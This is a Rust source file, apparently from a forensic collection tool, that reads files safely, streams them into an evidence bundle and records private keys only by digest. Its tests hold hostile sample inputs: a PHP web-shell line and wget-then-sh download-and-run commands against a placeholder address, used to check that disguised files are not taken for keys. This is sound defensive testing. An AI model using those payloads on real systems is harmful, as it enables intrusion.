//! One file: read under the watch, digested while it is written, and described.

use std::io;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use sha2::{Digest as _, Sha256};
use stanch_facts::{Host, Snapshot};
use stanch_machine::{Miss, Stat};
use stanch_words::GapKind;

use crate::collect::{Collector, Secrets};
use crate::manifest::{Item, Status};

/// How much is read in one go, and held in memory.
const PIECE: usize = 4 << 20;

/// Does something with the machine under its watch. What hangs is given up.
pub(crate) fn watched<T: Send + 'static>(
    snapshot: &Snapshot,
    path: &Path,
    work: impl Fn(&Host) -> Result<T, Miss> + Send + Sync + 'static,
) -> Result<T, Miss> {
    let host = Arc::clone(snapshot.host());
    let (done, gaps) = snapshot.watched("preserve", move || work(&host));
    done.unwrap_or_else(|| {
        let gap = gaps.into_iter().next();
        let (kind, detail) =
            gap.map_or((GapKind::TimedOut, String::new()), |gap| (gap.kind, gap.detail));
        Err(Miss::new(kind, detail, path))
    })
}

/// A piece of a file, and what it was like before and after.
struct Piece {
    bytes: Vec<u8>,
    before: Stat,
    after: Stat,
}

fn piece(snapshot: &Snapshot, path: &Path, known: Stat, offset: u64) -> Result<Piece, Miss> {
    let own: PathBuf = path.to_owned();
    watched(snapshot, path, move |host| {
        let file = host.machine().open_described(&own, &known)?;
        let before = file.stat()?;
        let left = usize::try_from(before.size.saturating_sub(offset)).unwrap_or(PIECE);
        let mut bytes = vec![0_u8; left.min(PIECE)];
        let read = file.read_at(offset, &mut bytes)?;
        bytes.truncate(read);
        Ok(Piece { bytes, before, after: file.stat()? })
    })
}

/// Under which name, and how.
#[derive(Clone, Debug)]
pub(crate) struct As<'a> {
    /// The name in the bundle.
    pub(crate) name: Vec<u8>,
    /// How it is read.
    pub(crate) method: &'a str,
}

/// The largest file that is taken for a private key.
const LARGEST_KEY: u64 = 64 << 10;

/// What is told before and between the lines of a key: by RFC 1421, by `openssl pkcs12`, and by
/// PuTTY ("PPK file format").
const TOLD: [&[u8]; 20] = [
    b"Argon2-Memory",
    b"Argon2-Parallelism",
    b"Argon2-Passes",
    b"Argon2-Salt",
    b"Comment",
    b"DEK-Info",
    b"Encryption",
    b"Key-Derivation",
    b"Microsoft CSP Name",
    b"Private-Hash",
    b"Private-Lines",
    b"Private-MAC",
    b"Proc-Type",
    b"Public-Lines",
    b"PuTTY-User-Key-File-1",
    b"PuTTY-User-Key-File-2",
    b"PuTTY-User-Key-File-3",
    b"X509v3 Key Usage",
    b"friendlyName",
    b"localKeyID",
];

/// Returns whether a whole file is a private key and nothing else (RFC 7468, and OpenSSH's and
/// PuTTY's own forms). One line that says so would keep a program or a page out of the evidence, so
/// every line must be such as these files have.
fn is_private_key(bytes: &[u8]) -> bool {
    let putty = bytes.starts_with(b"PuTTY-User-Key-File-");
    let (mut inside, mut has_key) = (false, putty);
    for line in bytes.split(|&byte| byte == b'\n').map(<[u8]>::trim_ascii) {
        let label = line.strip_prefix(b"-----BEGIN ").and_then(|it| it.strip_suffix(b"-----"));
        let is_end = line.starts_with(b"-----END ") && line.ends_with(b"-----");
        let base64 = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/=".contains(byte);
        match label {
            Some(label) if !inside && label.iter().all(is_plain) => {
                inside = true;
                has_key |= label.ends_with(b"PRIVATE KEY");
            }
            Some(_) => return false,
            None if is_end => inside = false,
            None if (inside || putty) && line.iter().all(base64) => {}
            None if line.len() <= 200 && is_told(line) => {}
            None => return false,
        }
    }
    has_key
}

fn is_plain(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || b" -:,.=_/@*+".contains(byte)
}

/// Returns whether a line beside a key's own tells of it: `Proc-Type: 4,ENCRYPTED`, `Bag
/// Attributes`, `subject=CN = web01`. None of them gets far where lines are commands.
fn is_told(line: &[u8]) -> bool {
    // Nothing, or a word of explanation (RFC 7468, section 2).
    let is_word = line.iter().all(u8::is_ascii_alphanumeric);
    if is_word || [&b"Bag Attributes"[..], b"Key Attributes"].contains(&line) {
        return true;
    }
    if !line.iter().all(is_plain) {
        return false;
    }
    let names = line.strip_prefix(b"subject=").or_else(|| line.strip_prefix(b"issuer="));
    if let Some(names) = names {
        // What stands before each sign is the name of an attribute, one word.
        let is_one = |part: &[u8]| {
            let name = part.split(|&byte| byte == b'=').next().unwrap_or_default();
            part.contains(&b'=') && !name.trim_ascii().contains(&b' ')
        };
        return names.is_empty() || names.split(|&byte| byte == b',').all(is_one);
    }
    line.iter()
        .position(|&byte| byte == b':')
        .is_some_and(|end| line.get(..end).is_some_and(|name| TOLD.contains(&name)))
}

/// What of a file must stay the same while it is read.
fn same(one: &Stat, other: &Stat) -> bool {
    let of = |stat: &Stat| (stat.device, stat.inode, stat.size, stat.modified, stat.changed);
    of(one) == of(other)
}

impl Collector<'_> {
    /// Takes a regular file.
    pub(crate) fn take(&mut self, path: &Path, known: Stat, named: &As<'_>) -> io::Result<()> {
        let most = self.options.largest;
        let item = self.item(named).described(&known);
        if known.size > most {
            let why = format!("{} bytes, larger than {most}", known.size);
            let item = Item { own_size: Some(known.size), ..item };
            return self.missed(item, Status::LeftOut, why, Some(GapKind::Truncated), path);
        }
        if let Some(why) = self.over_budget(known.size) {
            let item = Item { own_size: Some(known.size), ..item };
            return self.over(item, why);
        }
        let first = match piece(self.snapshot, path, known, 0) {
            Ok(first) if first.before.size <= most => first,
            Ok(first) => {
                let why = format!("it grew to {} bytes while we came", first.before.size);
                return self.missed(item, Status::LeftOut, why, Some(GapKind::Truncated), path);
            }
            Err(miss) => return self.missed_by(item, &miss, path),
        };
        let item = self.item(named).described(&first.before);
        let is_small = first.before.size <= LARGEST_KEY;
        if self.options.secrets == Secrets::Digests && is_small && is_private_key(&first.bytes) {
            return self.digest(path, item, first);
        }
        self.stream(path, item, first)
    }

    /// Notes a secret by its digest.
    pub(crate) fn fingerprint(
        &mut self,
        path: &Path,
        known: Stat,
        named: &As<'_>,
    ) -> io::Result<()> {
        if self.options.secrets == Secrets::Contents || known.size > self.options.largest {
            return self.take(path, known, named);
        }
        let item = self.item(named).described(&known);
        if let Some(why) = self.over_budget(known.size) {
            let item = Item { own_size: Some(known.size), ..item };
            return self.over(item, why);
        }
        match piece(self.snapshot, path, known, 0) {
            Ok(first) => self.digest(path, item, first),
            Err(miss) => self.missed_by(item, &miss, path),
        }
    }

    fn digest(&mut self, path: &Path, item: Item, first: Piece) -> io::Result<()> {
        let (known, mut bytes) = (first.before, first.bytes);
        let (mut running, mut done) = (Sha256::new(), 0_u64);
        loop {
            running.update(&bytes);
            done = done.saturating_add(bytes.len() as u64);
            if bytes.len() < PIECE || done > self.options.largest {
                break;
            }
            match piece(self.snapshot, path, known, done) {
                Ok(next) => bytes = next.bytes,
                Err(miss) => return self.missed_by(item, &miss, path),
            }
        }
        let sha256 = Some(stanch_words::text::hex(&running.finalize()));
        let item = Item { sha256, own_size: Some(done), ..item };
        self.missed(item, Status::LeftOut, "a secret: only its digest".to_owned(), None, path)
    }

    /// Writes a file piece by piece. Its size stands in the header already: what is missing in the
    /// end becomes zeros, and the item says so.
    fn stream(&mut self, path: &Path, item: Item, first: Piece) -> io::Result<()> {
        let (begun, mut after) = (first.before, first.after);
        let mut why = None;
        let mut writing = self.packing.member(&item, begun.size)?;
        writing.write(&first.bytes)?;
        let mut is_more = first.bytes.len() == PIECE;
        while writing.left() > 0 && is_more {
            let offset = begun.size.saturating_sub(writing.left());
            match piece(self.snapshot, path, begun, offset) {
                Ok(next)
                    if (next.before.device, next.before.inode) != (begun.device, begun.inode) =>
                {
                    why = Some("another file came in its place".to_owned());
                    break;
                }
                Ok(next) => {
                    is_more = next.bytes.len() == PIECE;
                    writing.write(&next.bytes)?;
                    after = next.after;
                }
                Err(miss) => {
                    why = Some(miss.detail);
                    break;
                }
            }
        }
        let left = writing.left();
        if left > 0 {
            let read = begun.size.saturating_sub(left);
            let because = why.unwrap_or_else(|| "it became shorter".to_owned());
            why = Some(format!("read up to byte {read}, zeros stand for the rest: {because}"));
        } else if why.is_none() && !same(&begun, &after) {
            why = Some("it was written to while it was read".to_owned());
        }
        let status = if why.is_some() { Status::Changed } else { Status::Whole };
        let item = Item { status, why: why.unwrap_or_default(), ..item };
        let item = writing.finish(item)?;
        if item.status == Status::Changed {
            self.gap(GapKind::Changed, &item.why, Some(path));
        }
        self.tally(&item);
        Ok(())
    }

    /// Takes what the kernel makes up when it is read: its size is known only then.
    pub(crate) fn take_pseudo(&mut self, path: &Path, named: &As<'_>, cap: u64) -> io::Result<()> {
        let own = path.to_owned();
        let read = watched(self.snapshot, path, move |host| host.machine().read(&own, cap));
        let item = self.item(named);
        match read {
            Ok(contents) => self.take_bytes(item, &contents.bytes, contents.truncated),
            // Settings that are not set, or can only be written, give an error to everybody.
            Err(miss) if miss.kind == GapKind::Failed && !miss.absent => {
                self.missed(item, Status::Failed, miss.detail, None, path)
            }
            Err(miss) => self.missed_by(item, &miss, path),
        }
    }

    /// Takes bytes that were read already.
    pub(crate) fn take_bytes(&mut self, item: Item, bytes: &[u8], cut: bool) -> io::Result<()> {
        let item = match cut {
            true => {
                let why = format!("only the first {} bytes", bytes.len());
                Item { status: Status::Truncated, why, ..item }
            }
            false => item,
        };
        let item = self.packing.put(item, bytes)?;
        if cut {
            self.gap(GapKind::Truncated, &item.why.clone(), Some(Path::new(&item.name)));
        }
        self.tally(&item);
        Ok(())
    }

    /// Notes what was there and could not be read.
    pub(crate) fn missed_by(&mut self, item: Item, miss: &Miss, path: &Path) -> io::Result<()> {
        let (status, kind) = match miss.kind {
            _ if miss.absent => (Status::Vanished, Some(GapKind::Changed)),
            GapKind::Denied | GapKind::Refused => (Status::Denied, Some(miss.kind)),
            GapKind::TimedOut => (Status::TimedOut, Some(miss.kind)),
            kind => (Status::Failed, Some(kind)),
        };
        self.missed(item, status, miss.detail.clone(), kind, path)
    }

    /// Notes an item without content, and leaves a gap if it is one.
    pub(crate) fn missed(
        &mut self,
        item: Item,
        status: Status,
        why: String,
        gap: Option<GapKind>,
        path: &Path,
    ) -> io::Result<()> {
        if let Some(kind) = gap {
            self.gap(kind, &why, Some(path));
        }
        let item = self.packing.note(Item { status, why, ..item })?;
        self.tally(&item);
        Ok(())
    }

    /// Notes an item that the budget has no room for: one gap stands for all of them.
    pub(crate) fn over(&mut self, item: Item, why: &'static str) -> io::Result<()> {
        self.budget_is_used_up(why);
        let item = Item { status: Status::LeftOut, why: why.to_owned(), ..item };
        let item = self.packing.note(item)?;
        self.tally(&item);
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00FF\n\nMIIEow+/=\n-----END RSA PRIVATE KEY-----\n";

    #[test]
    fn keys_in_their_forms_are_keys() {
        let bundle = format!(
            "Bag Attributes\n    friendlyName: web01\nsubject=CN = web01\n-----BEGIN CERTIFICATE-----\nMIID\n-----END CERTIFICATE-----\n{KEY}"
        );
        let putty = "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nPublic-Lines: 1\nAAAA\n";
        let openssh = KEY.replace("RSA ", "OPENSSH ").replace('\n', "\r\n");
        for key in [KEY, &bundle, putty, &openssh] {
            assert!(is_private_key(key.as_bytes()), "{key}");
        }
    }

    #[test]
    fn what_only_says_that_it_is_a_key_is_taken() {
        let page = format!("{KEY}<?php eval($_POST['a']); ?>\n");
        let script = format!("#!/bin/sh\n: <<'{KEY}'\nid\n");
        let certificate = KEY.replace("RSA PRIVATE KEY", "CERTIFICATE");
        let binary = [KEY.as_bytes(), b"\x7fELF\0"].concat();
        // Commands of plain characters alone, after a key that is one.
        let commands = [
            format!("{KEY}wget http://192.0.2.7/x -O /tmp/x\nsh /tmp/x\n"),
            format!("{KEY}subject=CN wget http://192.0.2.7/x\n"),
            format!("{KEY}command: wget http://192.0.2.7/x\n"),
            "PuTTY-User-Key-File-3: x\nsh /tmp/x\n".to_owned(),
        ];
        for other in &commands {
            assert!(!is_private_key(other.as_bytes()), "{other}");
        }
        for other in [page.as_bytes(), script.as_bytes(), certificate.as_bytes(), &binary, b""] {
            assert!(!is_private_key(other), "{}", String::from_utf8_lossy(other));
        }
    }
}
